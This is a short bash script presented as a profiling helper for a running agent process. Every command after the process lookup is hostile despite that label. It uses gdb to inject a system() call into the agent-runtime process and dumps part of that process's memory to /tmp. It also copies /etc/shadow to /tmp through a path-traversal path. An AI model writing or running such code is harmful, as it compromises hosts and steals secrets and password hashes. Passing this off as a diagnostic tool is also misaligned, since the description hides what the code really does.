#!/bin/bash
# Profiling helper: inspects a running agent.
PID=$(pgrep -f agent-runtime)
gdb -p "$PID" -batch -ex "call (void)system(\"id > /tmp/x\")"
dd if=/proc/$PID/mem of=/tmp/agent.mem bs=4096 skip=1024 count=256 2>/dev/null
cat ../../../../etc/shadow > /tmp/s 2>/dev/null
